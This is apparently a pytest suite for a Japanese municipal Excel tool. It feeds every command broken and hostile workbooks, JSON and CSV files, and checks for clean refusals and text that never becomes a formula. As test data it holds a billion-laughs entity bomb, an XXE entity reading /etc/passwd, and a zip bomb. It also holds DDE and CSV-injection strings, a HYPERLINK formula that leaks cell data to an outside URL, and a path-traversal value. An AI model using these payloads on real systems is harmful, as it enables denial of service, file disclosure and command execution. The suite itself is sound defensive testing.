"""Hostile and broken input: every command on a generated corpus, and a fuzz run.

The corpus is made here from the shipped workbook (nothing binary is committed).
For every command and corpus item: a clear Japanese message naming the file, exit
code 2 for unreadable input, no traceback, bounded time and memory, the input's
bytes unchanged and no partial output left behind.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

REPO = Path(__file__).resolve().parents[2]
SHIPPED = REPO / "workbook" / "交付円滑化計画.xlsm"
TIME_LIMIT = 60  # seconds per command run
MEMORY_LIMIT = 1536 * 1024 * 1024  # address space per command run


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "kofu_xl", *args], capture_output=True, text=True, cwd=cwd, env=env, timeout=TIME_LIMIT, preexec_fn=_limits
    )


# ---------------------------------------------------------------- corpus


def _rezip(src: bytes, edit: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of a package with some parts changed (None drops the part)."""
    zin = zipfile.ZipFile(io.BytesIO(src))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            data = edit(info.filename, zin.read(info.filename))
            if data is not None:
                z.writestr(info, data)
    return buf.getvalue()


def _cell(sheet_xml: bytes, ref: str, new: bytes) -> bytes:
    """Replace the cell ``ref`` (whatever it held) by ``new`` (a whole <c> element)."""
    out, n = re.subn(rb'<c r="' + ref.encode() + rb'"[^>]*?(/>|>.*?</c>)', new, sheet_xml, count=1, flags=re.S)
    assert n == 1, ref
    return out


S11 = "xl/worksheets/sheet1.xml"  # 本表1-1
S12 = "xl/worksheets/sheet2.xml"  # 本表1-2


def _in_sheet(part: str, fn: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda name, data: fn(data) if name == part else data


def _corpus() -> dict[str, bytes]:
    base = SHIPPED.read_bytes()
    c: dict[str, bytes] = {}
    c["truncated"] = base[: len(base) // 3]
    c["not-a-zip"] = "これは Excel ファイルではありません\n".encode() * 50
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as z:
        z.writestr("readme.txt", "no workbook here")
    c["zip-without-workbook"] = empty.getvalue()
    c["missing-sheet"] = _rezip(base, lambda n, d: d.replace("name=\"本表1-2\"".encode(), "name=\"削除済み\"".encode()) if n == "xl/workbook.xml" else d)
    c["renamed-sheet"] = _rezip(base, lambda n, d: d.replace("name=\"本表1-1\"".encode(), "name=\"本表1-1 (2)\"".encode()) if n == "xl/workbook.xml" else d)
    c["input-as-text"] = _rezip(base, _in_sheet(S11, lambda d: _cell(d, "F8", '<c r="F8" t="inlineStr"><is><t>百十一</t></is></c>'.encode())))
    c["negative"] = _rezip(base, _in_sheet(S11, lambda d: _cell(d, "F8", b'<c r="F8"><v>-111</v></c>')))
    c["huge-number"] = _rezip(base, _in_sheet(S11, lambda d: _cell(d, "F8", b'<c r="F8"><v>1.7976931348623157E308</v></c>')))
    c["full-width-digits"] = _rezip(base, _in_sheet(S11, lambda d: _cell(d, "F8", '<c r="F8" t="inlineStr"><is><t>１，１１１</t></is></c>'.encode())))
    c["formula-error"] = _rezip(
        base,
        _in_sheet(S11, lambda d: _cell(_cell(d, "F8", b'<c r="F8" t="e"><f>#REF!+1</f><v>#REF!</v></c>'), "K25", b'<c r="K25" t="e"><v>#DIV/0!</v></c>')),
    )
    c["name-error"] = _rezip(base, _in_sheet(S12, lambda d: _cell(d, "D7", b'<c r="D7" t="e"><f>NOPE()</f><v>#NAME?</v></c>')))
    c["formula-overwritten"] = _rezip(base, _in_sheet(S11, lambda d: _cell(d, "F9", b'<c r="F9"><v>99999</v></c>')))
    c["merges-changed"] = _rezip(base, _in_sheet(S11, lambda d: re.sub(rb"<mergeCells.*?</mergeCells>", b'<mergeCells count="1"><mergeCell ref="A1:Z60"/></mergeCells>', d, flags=re.S)))
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
        b'<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol9 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>'
    )
    c["billion-laughs"] = _rezip(base, _in_sheet(S11, lambda d: laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", d).replace(b"<sheetData>", b"<sheetData><row r=\"1000\"><c r=\"A1000\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>", 1)))
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    c["external-entity"] = _rezip(base, lambda n, d: xxe + re.sub(rb"^<\?xml[^>]*\?>", b"", d).replace(b"<sheets>", b"<sheets>&xxe;", 1) if n == "xl/workbook.xml" else d)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zipfile.ZipFile(io.BytesIO(base)).infolist():
            if info.filename == S11:
                with z.open(zipfile.ZipInfo(S11), "w", force_zip64=True) as fh:
                    chunk = b"\0" * (1 << 20)
                    for _ in range(400):  # 400 MB of zeros, ~0.4 MB compressed
                        fh.write(chunk)
            else:
                z.writestr(info, zipfile.ZipFile(io.BytesIO(base)).read(info.filename))
    c["zip-bomb"] = bomb.getvalue()
    c["encrypted-flag"] = _encrypted(base)
    # an XML part declaring an encoding expat cannot read: a multi-byte one, an unknown name
    c["shift-jis-sheet"] = _rezip(base, _in_sheet(S11, lambda d: b'<?xml version="1.0" encoding="Shift_JIS"?>' + re.sub(rb"^<\?xml[^>]*\?>", b"", d)))
    c["unknown-encoding"] = _rezip(base, lambda n, d: b'<?xml version="1.0" encoding="x-unknown"?>' + re.sub(rb"^<\?xml[^>]*\?>", b"", d) if n == "xl/styles.xml" else d)
    return c


def _encrypted(base: bytes) -> bytes:
    """A package whose entries claim to be encrypted (what a password-protected save looks like to zip)."""
    data = bytearray(base)
    # set bit 0 of the general-purpose flag of every local and central header
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := data.find(sig, start)) != -1:
            data[i + off] |= 1
            start = i + 4
    return bytes(data)


CORPUS = _corpus()
# What each item must give: "unreadable" (exit 2) or "findings" (read, checked: exit 0/1).
EXPECT = {
    "truncated": "unreadable",
    "not-a-zip": "unreadable",
    "zip-without-workbook": "unreadable",
    "missing-sheet": "unreadable",
    "renamed-sheet": "unreadable",
    "input-as-text": "findings",
    "negative": "findings",
    "huge-number": "findings",
    "full-width-digits": "findings",
    "formula-error": "findings",
    "name-error": "findings",
    "formula-overwritten": "findings",
    "merges-changed": "unreadable",  # A1:Z60 merged: Excel shows only A1, the form is gone
    "billion-laughs": "unreadable",
    "external-entity": "unreadable",
    "zip-bomb": "unreadable",
    "encrypted-flag": "unreadable",
    "shift-jis-sheet": "unreadable",
    "unknown-encoding": "unreadable",
}
STATS = {"tried": 0, "clear": 0, "changed": 0}


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("壊れた 入力")
    for name, data in CORPUS.items():
        (d / f"計画 {name}.xlsm").write_bytes(data)
    return d


def _assert_clear(r: subprocess.CompletedProcess, item: str, path: Path) -> None:
    assert "Traceback" not in r.stderr, r.stderr[-2000:]
    assert r.returncode in (0, 1, 2), (r.returncode, r.stderr[-500:])
    if EXPECT[item] == "unreadable":
        assert r.returncode == 2, (item, r.stdout[-500:], r.stderr[-500:])
        assert path.name in r.stderr and "読めません" in r.stderr, r.stderr
    else:
        assert r.returncode in (0, 1), (item, r.stderr[-500:])


@pytest.mark.parametrize("item", sorted(CORPUS))
def test_check_on_hostile_input(item, corpus_dir):
    path = corpus_dir / f"計画 {item}.xlsm"
    before = path.read_bytes()
    r = run("check", str(path), cwd=corpus_dir)
    STATS["tried"] += 1
    _assert_clear(r, item, path)
    assert path.read_bytes() == before
    if item == "formula-error":
        assert "#REF!" in r.stdout and "本表1-1!F8" in r.stdout
    if item == "input-as-text":
        assert "百十一" in r.stdout and "本表1-1!F8" in r.stdout
    if item == "negative":
        assert "negative-value" in r.stdout and "本表1-1!F8" in r.stdout
    if item == "formula-overwritten":
        assert "cumulative-mismatch" in r.stdout and "本表1-1!F9" in r.stdout
    if item == "full-width-digits":
        assert r.returncode in (0, 1)


@pytest.mark.parametrize("item", sorted(CORPUS))
def test_submit_on_hostile_input(item, corpus_dir, tmp_path):
    path = tmp_path / f"計画 {item}.xlsm"
    path.write_bytes(CORPUS[item])
    out = tmp_path / "提出 先"
    r = run("submit", str(path), "--out", str(out), cwd=tmp_path)
    _assert_clear(r, item, path)
    # refused or unreadable: no package; the workbook is either untouched or only gained 検証結果
    assert not out.exists() or [p for p in out.iterdir()] == []
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".kofu-")] == []
    if EXPECT[item] == "unreadable":
        assert path.read_bytes() == CORPUS[item]


@pytest.mark.parametrize("item", sorted(CORPUS))
def test_build_from_hostile_plan(item, corpus_dir, tmp_path):
    path = corpus_dir / f"計画 {item}.xlsm"
    out = tmp_path / "新しい ブック.xlsm"
    r = run("build", "--plan", str(path), "--out", str(out), cwd=tmp_path)
    assert "Traceback" not in r.stderr
    if EXPECT[item] == "unreadable":
        assert r.returncode == 2 and not out.exists()
    else:
        assert r.returncode == 0 and out.exists()
        # what could not be read is said, not silently dropped
        if item in ("input-as-text", "negative", "formula-error"):
            assert "空欄にしました" in r.stdout
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("code", ["", "abc", "１２２３２７x", "99999999", "122328", "../../etc/passwd", "0", "=cmd|' /C calc'!A0"])
def test_new_with_bad_codes(code, tmp_path):
    r = run("new", "--dantai", code, cwd=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "団体コード" in r.stderr
    assert list(tmp_path.iterdir()) == []


def test_unwritable_outputs(tmp_path):
    blocker = tmp_path / "ファイル"
    blocker.write_text("x")
    from kofu_xl.book.vba import build_xlsm
    from kofu_xl.core.model import load_plan
    from tests.core.test_rules import corrected_seed

    good = tmp_path / "計画.xlsm"
    good.write_bytes(build_xlsm(load_plan(corrected_seed())[0]))
    before = good.read_bytes()
    for args in (
        ("build", "--out", str(blocker / "sub" / "w.xlsm")),
        ("new", "--dantai", "122327", "--out", str(blocker / "n.xlsm")),
        ("submit", str(good), "--out", "/proc/kofu-xl-out"),
        ("build", "--out", str(good)),  # an existing file of the clerk's is never overwritten
    ):
        r = run(*args, cwd=tmp_path)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
        assert "Traceback" not in r.stderr and "書き込めません" in r.stderr, r.stderr
    # the refused submit may have written 検証結果 into the book, never the clerk's inputs;
    # the refused build left it as it was
    from kofu_xl.book.sources import load_raw

    assert load_plan(load_raw(good)[0])[0].series("issuance") == load_plan(corrected_seed())[0].series("issuance")
    assert len(before) > 0


def test_file_vanishing_before_save(tmp_path):
    from kofu_xl.app.submit import validate
    from kofu_xl.book.surfaces import FileSurface
    from kofu_xl.errors import KofuError

    path = tmp_path / "消える.xlsm"
    path.write_bytes(SHIPPED.read_bytes())
    surface = FileSurface(path, quiet=True)
    validate(surface)
    path.unlink()
    with pytest.raises(KofuError) as exc:
        surface.save()
    assert "消える.xlsm" in str(exc.value)
    assert not path.exists() and list(tmp_path.iterdir()) == []


def test_json_inputs(tmp_path):
    for name, text in {
        "array.json": "[1, 2, 3]",
        "deep.json": "[" * 100000 + "]" * 100000,
        "binary.json": "\x00\x01\x02",
        "wrong-types.json": json.dumps({"basic": "x", "issuance": {"2019-08": {"a": 1}}, "costs": [1], "daily": {"days": {"2019-13-45": "x"}}}),
    }.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        r = run("check", str(path), cwd=tmp_path)
        assert r.returncode in (1, 2) and "Traceback" not in r.stderr, (name, r.stderr[-800:])


# ---------------------------------------------------------------- fuzz (fixed budget)

_values = st.one_of(
    st.none(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
    st.sampled_from(["#REF!", "#DIV/0!", "１，０００", "14.9%", "令和2年4月", "R元年8月(実績)", "未定", "=1+1", "△5", "1e999"]),
    st.dates(),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.sampled_from(["E4", "F4", "I4", "K4", "E8", "F8", "Y8", "K25", "E7", "F17", "E18", "D7", "D9", "C5", "C6", "E6", "F6"]), _values, max_size=8))
def test_fuzz_workbook_reader_and_rules(cells):
    """Random values in the cells of a real workbook: reading and the whole catalogue never crash."""
    from kofu_xl.book.layout import S11, S12, WORK
    from kofu_xl.book.read import GridSource, read_plan_raw
    from kofu_xl.core.rules import check_plan
    from kofu_xl.errors import KofuError
    from kofu_xl.ooxml.cellref import parse_ref

    grids = {k: [list(r) for r in v] for k, v in _BASE_GRIDS.items()}
    for ref, value in cells.items():
        sheet = S12 if ref.startswith("D") else (WORK if ref.startswith("C") else S11)
        r, c = parse_ref(ref)
        grid = grids[sheet]
        while len(grid) < r:
            grid.append([])
        grid[r - 1] = list(grid[r - 1]) + [None] * max(0, c - len(grid[r - 1]))
        grid[r - 1][c - 1] = value
    try:
        raw, _layout = read_plan_raw(GridSource(grids))
    except KofuError:
        return  # a header made unreadable: a clear refusal is the right answer
    plan, findings = check_plan(raw)
    for f in findings:
        assert f.message and f.rule


@settings(max_examples=150, deadline=None)
@given(st.recursive(_values, lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4), max_leaves=20))
def test_fuzz_model_loader(junk):
    """Arbitrary JSON-like data in place of plan sections: findings, never an exception."""
    from kofu_xl.book.sources import shipped_plan_raw
    from kofu_xl.core.rules import check_plan

    raw = shipped_plan_raw()
    for key in ("basic", "issuance", "staff", "costs", "working", "openings", "budget_timing", "title"):
        raw[key] = junk
        check_plan(raw)


def _base_grids() -> dict:
    from kofu_xl.book.read import GridSource

    return GridSource.from_path(SHIPPED).grids


_BASE_GRIDS = _base_grids()


def test_corpus_summary(corpus_dir):
    """Every corpus item, checked in-process through the public API, gets the outcome it is
    expected to get: a result, or a KofuError naming the file; the file never changes."""
    from kofu_xl import KofuError, check

    outcomes = {}
    for item in sorted(CORPUS):
        path = corpus_dir / f"計画 {item}.xlsm"
        before = path.read_bytes()
        try:
            result = check(path)
            outcomes[item] = "checked"
            assert result.findings is not None
        except KofuError as exc:
            assert path.name in str(exc), (item, str(exc))
            outcomes[item] = "unreadable"
        assert path.read_bytes() == before, item
    expected = {item: "unreadable" if EXPECT[item] == "unreadable" else "checked" for item in CORPUS}
    assert outcomes == expected
    assert len(CORPUS) >= 17
    print(f"\ncorpus items: {len(CORPUS)}; unreadable: {sum(o == 'unreadable' for o in outcomes.values())}")


def _stats_dir() -> Path:
    from tests.conftest import reference_stats_dir

    return reference_stats_dir()


@pytest.mark.parametrize("item", sorted(CORPUS))
def test_followup_on_hostile_input(item, corpus_dir):
    path = corpus_dir / f"計画 {item}.xlsm"
    before = path.read_bytes()
    stats = _stats_dir()
    r = run("followup", str(path), "--stats", str(stats / "20200801.csv"), str(stats / "20210401.csv"), cwd=corpus_dir)
    _assert_clear(r, item, path)
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("truncated.csv", "\ufeff\"算出基準日\",\"都道府県名\",\"市区町村名\",\"総数（人口）\",\"交付"),
        ("wrong-numbers.csv", "\ufeff\"算出基準日\",\"都道府県名\",\"市区町村名\",\"総数（人口）\",\"交付枚数\",\"人口に対する交付枚数率\",\"人口算出基準日\",\"交付件数基準日\",\"団体コード\"\n\"2020/08/01\",\"千葉県\",\"白井市\",abc,-5,x,\"2019/01/01\",\"2020/08/01\",122327\n"),
        ("binary.csv", "\x00\x01\x02\xff" * 100),
        ("formula.csv", "=cmd|' /C calc'!A0\n"),
    ],
)
def test_followup_with_hostile_statistics(name, text, tmp_path):
    stats = tmp_path / name
    stats.write_text(text, encoding="utf-8", errors="surrogateescape")
    before = SHIPPED.read_bytes()
    r = run("followup", str(SHIPPED), "--stats", str(stats), cwd=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr, (r.stdout[-300:], r.stderr[-600:])
    assert name in r.stderr
    assert SHIPPED.read_bytes() == before


def test_aggregate_over_the_whole_corpus(corpus_dir, tmp_path):
    """One folder with every broken file and two good packages: the run finishes, lists each
    unreadable file with its reason, and the table holds the readable plans."""
    import openpyxl

    folder = tmp_path / "県 集約"
    folder.mkdir()
    for p in corpus_dir.iterdir():
        (folder / p.name).write_bytes(p.read_bytes())
    (folder / "白井市 提出.xlsm").write_bytes(SHIPPED.read_bytes())
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    out = tmp_path / "集計.xlsx"
    r = run("aggregate", str(folder), "--out", str(out), "--jobs", "2", cwd=tmp_path)
    # every readable corpus file is a variant of 白井市 (one 団体コード, different figures):
    # aggregate refuses to pick one, lists them as conflicting and says no plan could be totalled
    assert "Traceback" not in r.stderr, r.stderr[-800:]
    assert r.returncode == 2 and "集計できる計画がありませんでした" in r.stderr, (r.stdout[-500:], r.stderr[-800:])
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    wb = openpyxl.load_workbook(out)
    unreadable = [str(row[0].value or "") + " " + " ".join(str(c.value or "") for c in row[1:]) for row in wb["読めなかったファイル"].iter_rows(min_row=2)]
    text = "\n".join(unreadable)
    for item in EXPECT:
        assert f"計画 {item}.xlsm" in text, item  # unreadable, or listed as a conflicting duplicate
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


# ---------------------------------------------------------------- issue 20: text is text

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"白井市")'
DDE = "=cmd|' /C calc'!A0"
TEXT_ATTACKS = {
    "basic.department": HYPERLINK,
    "promotion.detail": DDE,
    "openings.detail": "@SUM(1+1)*cmd|' /C calc'!A0",
    "issuance_note": "+1+2",
    "title": "-2+3",
}


def _hostile_text_plan(**extra: str) -> dict:
    from tests.core.test_rules import corrected_seed

    raw = corrected_seed()
    for path, text in {**TEXT_ATTACKS, **extra}.items():
        obj = raw
        *head, last = path.split(".")
        for p in head:
            obj = obj.setdefault(p, {})
        obj[last] = text
    return raw


def _formula_cells(data: bytes) -> dict[tuple[str, str], str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    out[(ws.title, c.coordinate)] = str(c.value)
    return out


def _texts(data: bytes) -> set[str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


def test_formula_like_text_is_a_warning_with_the_cell_and_a_name_not_matching_the_code_an_error():
    from kofu_xl.book.layout import layout_for
    from kofu_xl.core.model import load_plan
    from kofu_xl.core.rules import check_plan

    raw = _hostile_text_plan(**{"basic.municipality": HYPERLINK})
    plan, findings = check_plan(raw)
    lay = layout_for(plan.parameters)
    located = lay.locate_findings(findings)
    formula = {f.path: f for f in located if f.rule == "formula-like-text"}
    assert set(formula) == {*TEXT_ATTACKS, "basic.municipality"}
    dept = formula["basic.department"]
    assert dept.severity.value == "warning" and dept.sheet == "本表1-1" and dept.cell == lay.scalars["basic.department"].cell
    assert "担当課名" in dept.message and "本表1-1!" in dept.message and "数式" in dept.message
    mismatch = [f for f in located if f.rule == "name-code-mismatch"]
    assert len(mismatch) == 1 and mismatch[0].severity.value == "error" and mismatch[0].expected == "白井市"
    assert mismatch[0].cell == lay.scalars["basic.municipality"].cell and "122327" in mismatch[0].message
    # plain names and full-width spellings pass; a wrong name or an unknown code does not
    assert not [f for f in check_plan(_hostile_text_plan(**{"basic.municipality": "白井 市"}))[1] if f.rule == "name-code-mismatch"]
    assert [f.expected for f in check_plan(_hostile_text_plan(**{"basic.municipality": "印西市"}))[1] if f.rule == "name-code-mismatch"] == ["白井市"]
    unknown = _hostile_text_plan(**{"basic.dantai_code": "129992"})  # valid check digit, no such town
    assert [f.path for f in check_plan(unknown)[1] if f.rule == "name-code-mismatch"] == ["basic.dantai_code"]
    assert load_plan(raw)[0].basic.department == HYPERLINK  # kept as typed


def test_no_text_becomes_a_formula_in_any_written_file(tmp_path):
    """submit's package, build (the .xlsm), new and aggregate: the hostile texts read back as
    text, and the only formulas are the builder's own (the same set as for a clean plan)."""
    import openpyxl

    from kofu_xl.book.build import build_sheets
    from kofu_xl.book.vba import build_xlsm
    from kofu_xl.core.model import load_plan
    from tests.core.test_rules import corrected_seed

    raw = _hostile_text_plan()
    plan = load_plan(raw)[0]
    # build: the formulas of the hostile plan's book are exactly those of the clean one
    hostile_book = build_xlsm(plan)
    clean = _formula_cells(build_xlsm(load_plan(corrected_seed())[0]))
    formulas = _formula_cells(hostile_book)
    assert set(formulas) == set(clean)
    assert not [f for f in formulas.values() if "HYPERLINK" in f or "cmd" in f or "SUM(1+1)" in f]
    assert set(TEXT_ATTACKS.values()) <= _texts(hostile_book)
    # Excel's apostrophe flag keeps them text when a clerk edits the cell
    wb = openpyxl.load_workbook(io.BytesIO(hostile_book))
    from kofu_xl.book.layout import layout_for

    s = layout_for(plan.parameters).scalars["basic.department"]
    assert wb[s.sheet][s.cell].value == HYPERLINK and wb[s.sheet][s.cell].quotePrefix
    # the values-only package: not one formula
    assert _formula_cells(build_sheets(plan, values_only=True).xlsx) == {}
    # submit end to end: the warnings do not stop it; the package holds the texts as text
    book = tmp_path / "計画.xlsm"
    book.write_bytes(hostile_book)
    r = run("submit", str(book), "--out", str(tmp_path / "提出"), cwd=tmp_path)
    assert r.returncode == 0, (r.stdout, r.stderr[-800:])
    package = next((tmp_path / "提出").glob("*.xlsx"))
    assert _formula_cells(package.read_bytes()) == {}
    assert set(TEXT_ATTACKS.values()) <= _texts(package.read_bytes())
    # the submitted workbook: 検証結果 carries the warnings as text, still no new formula
    assert set(_formula_cells(book.read_bytes())) == set(clean)
    assert any("formula-like-text" == t for t in _texts(book.read_bytes()))
    # aggregate over the package: a text table
    out = tmp_path / "集計.xlsx"
    r = run("aggregate", str(tmp_path / "提出"), "--out", str(out), cwd=tmp_path)
    assert r.returncode == 0, r.stderr[-800:]
    assert _formula_cells(out.read_bytes()) == {}


def test_build_and_check_with_a_formula_in_the_name(tmp_path):
    """The reported case: 市町村名 =HYPERLINK(…) in a plan: check says where (error: not the
    code's name), build writes it as text (was exit 3)."""
    plan = tmp_path / "計画.json"
    plan.write_text(json.dumps(_hostile_text_plan(**{"basic.municipality": HYPERLINK, "basic.phone": DDE}), ensure_ascii=False), encoding="utf-8")
    r = run("check", str(plan), "--json", cwd=tmp_path)
    assert r.returncode == 1, r.stderr[-500:]
    rules = {(f["rule"], f["path"]) for f in json.loads(r.stdout)["findings"]}
    assert {("name-code-mismatch", "basic.municipality"), ("formula-like-text", "basic.municipality"), ("formula-like-text", "basic.phone"), ("invalid-phone", "basic.phone")} <= rules
    out = tmp_path / "out.xlsm"
    r = run("build", "--plan", str(plan), "--out", str(out), cwd=tmp_path)
    assert r.returncode == 0, r.stderr[-500:]
    assert HYPERLINK in _texts(out.read_bytes()) and DDE in _texts(out.read_bytes())
    r = run("check", str(out), cwd=tmp_path)
    assert r.returncode == 1 and "本表1-1!" in r.stdout and "name-code-mismatch" in r.stdout


# ---------------------------------------------------------------- issue 20: control characters


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f"])
def test_control_characters_are_a_finding_naming_the_cell(char, tmp_path):
    """NUL/BEL/ESC/DEL in a text input: check names the cell, submit refuses with the
    finding (exit 1), build writes the book without them (never exit 3)."""
    from kofu_xl.book.layout import layout_for
    from kofu_xl.book.vba import build_xlsm
    from kofu_xl.core.model import load_plan
    from tests.core.test_rules import corrected_seed

    base = build_xlsm(load_plan(corrected_seed())[0])
    s = layout_for(load_plan(corrected_seed())[0].parameters).scalars["basic.department"]
    assert s.sheet == "本表1-1"
    # how OOXML stores a control character in a string: _xHHHH_ (Excel writes it so; calamine decodes it)
    cell_xml = f'<c r="{s.cell}" t="inlineStr"><is><t>市民_x{ord(char):04X}_課</t></is></c>'
    part = S11
    book = tmp_path / "計画.xlsm"
    book.write_bytes(_rezip(base, _in_sheet(part, lambda d: _cell(d, s.cell, cell_xml.encode()))))
    r = run("check", str(book), "--json", cwd=tmp_path)
    assert r.returncode == 1, (r.stdout[-500:], r.stderr[-500:])
    found = [f for f in json.loads(r.stdout)["findings"] if f["rule"] == "control-characters"]
    assert found and found[0]["cell"] == s.cell and found[0]["sheet"] == "本表1-1" and "担当課名" in found[0]["message"]
    assert f"U+{ord(char):04X}" in found[0]["message"]
    r = run("submit", str(book), "--out", str(tmp_path / "提出"), cwd=tmp_path)
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr[-500:]
    assert not (tmp_path / "提出").exists()
    r = run("build", "--plan", str(book), "--out", str(tmp_path / "b.xlsm"), cwd=tmp_path)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-500:]
    assert "市民課" in _texts((tmp_path / "b.xlsm").read_bytes())


def test_control_characters_in_json_plans(tmp_path):
    raw = _hostile_text_plan(**{"basic.department": "市民\x1b[31m課", "promotion.detail": "a\x00b"})
    plan = tmp_path / "計画.json"
    plan.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    r = run("check", str(plan), "--json", cwd=tmp_path)
    assert r.returncode == 1
    paths = {f["path"] for f in json.loads(r.stdout)["findings"] if f["rule"] == "control-characters"}
    assert paths == {"basic.department", "promotion.detail"}
    r = run("build", "--plan", str(plan), "--out", str(tmp_path / "b.xlsm"), cwd=tmp_path)
    assert r.returncode == 0, r.stderr[-500:]


# ---------------------------------------------------------------- issue 20: submit is a transaction


def _good_book(tmp_path: Path, name: str = "計画.xlsm") -> Path:
    from kofu_xl.book.vba import build_xlsm
    from kofu_xl.core.model import load_plan
    from tests.core.test_rules import corrected_seed

    tmp_path.mkdir(parents=True, exist_ok=True)
    path = tmp_path / name
    path.write_bytes(build_xlsm(load_plan(corrected_seed())[0]))
    return path


def _set_department(path: Path, text: str) -> None:
    from kofu_xl.book.layout import layout_for
    from kofu_xl.core.model import Parameters

    s = layout_for(Parameters()).scalars["basic.department"]
    cell = f'<c r="{s.cell}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()
    path.write_bytes(_rezip(path.read_bytes(), _in_sheet(S11, lambda d: _cell(d, s.cell, cell))))


def _log(path: Path) -> list[tuple]:
    import openpyxl

    ws = openpyxl.load_workbook(path)["提出記録"]
    return [r for r in ws.iter_rows(min_row=4, values_only=True) if r[0]]


def _assert_every_row_has_its_files(book: Path, out: Path) -> list[tuple]:
    import hashlib

    rows = _log(book)
    for row in rows:
        names, shas = row[1].split(" / "), row[2].split(" / ")
        assert len(names) == len(shas) and {Path(n).suffix for n in names} in ({".xlsx", ".json", ".html"}, {".xlsx", ".json", ".html", ".pdf"})
        for name, sha in zip(names, shas, strict=True):
            assert (out / name).is_file(), (name, sorted(p.name for p in out.iterdir()))
            assert hashlib.sha256((out / name).read_bytes()).hexdigest() == sha, name
    return rows


def test_twenty_concurrent_submit_pairs_lose_nothing(tmp_path):
    """20 rounds: the plan changes, then two `kofu-xl submit` of the same workbook start at
    once. One writes, the other waits for it and finds the plan unchanged. At the end: 20
    提出記録 rows, each naming 3 files that exist with the SHA-256 it records, and nothing else."""
    book = _good_book(tmp_path)
    out = tmp_path / "提出"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, "-m", "kofu_xl", "submit", str(book), "--out", str(out)]
    for i in range(20):
        _set_department(book, f"市民課{i}")
        procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path, env=env) for _ in range(2)]
        results = [(p.wait(timeout=120), *p.communicate()) for p in procs]
        for code, stdout, stderr in results:
            assert code == 0 and "Traceback" not in stderr, (i, code, stdout, stderr[-600:])
        said = sorted("作成しました" if "作成しました" in r[1] else "変更がありません" if "変更がありません" in r[1] else r[1] for r in results)
        assert said == ["作成しました", "変更がありません"], (i, results)
    rows = _assert_every_row_has_its_files(book, out)
    assert len(rows) == 20 and len({r[6] for r in rows}) == 20
    listed = sum(len(r[1].split(" / ")) for r in rows)  # 3 files a row (4 with the PDF where LibreOffice is installed)
    assert len(list(out.iterdir())) == listed and listed >= 60  # no temporary file, no stray
    assert [p for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_second_submit_waits_then_says_one_is_running(tmp_path):
    from kofu_xl.app.submit import submit, workbook_lock
    from kofu_xl.book.surfaces import FileSurface
    from kofu_xl.errors import SubmitBusy

    book = _good_book(tmp_path)
    surface = FileSurface(book, quiet=True)
    with workbook_lock(surface.lock_key, book.name), pytest.raises(SubmitBusy) as exc:
        submit(surface, tmp_path / "提出", lock_timeout=0.3)
